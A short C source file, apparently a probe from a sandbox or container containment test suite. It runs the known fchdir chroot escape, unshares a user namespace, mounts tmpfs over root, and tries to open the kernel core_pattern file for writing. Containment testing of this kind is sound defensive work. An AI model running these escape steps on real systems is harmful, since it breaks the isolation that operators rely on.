/* Into a root of one's own, and out of it by a directory held from before: to the top of all mounts that there are. */
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

static int is_top(const struct stat *here) {
    struct stat above;
    return stat("..", &above) == 0 && above.st_ino == here->st_ino && above.st_dev == here->st_dev;
}

static long climb(int held) {
    struct stat here;
    if (fchdir(held) < 0) return -1;
    for (int i = 0; i < 1000; i++)
        if (stat(".", &here) < 0 || is_top(&here) || chdir("..") < 0) break;
    return chroot(".");
}

int main(void) {
    int held = open("/", O_RDONLY | O_DIRECTORY);
    struct stat root, after;
    stat("/", &root);
    mkdir("/tmp/cage", 0755);
    ATTEMPT("chroot", chroot("/tmp/cage"));
    ATTEMPT("unshare", unshare(CLONE_NEWUSER));
    ATTEMPT("mount", mount("none", "/", "tmpfs", 0, NULL));
    ATTEMPT("climb", climb(held));
    stat("/", &after);
    ATTEMPT("beyond", after.st_ino == root.st_ino && after.st_dev == root.st_dev ? (errno = ENOENT, -1) : 0);
    ATTEMPT("core-pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
    return 0;
}
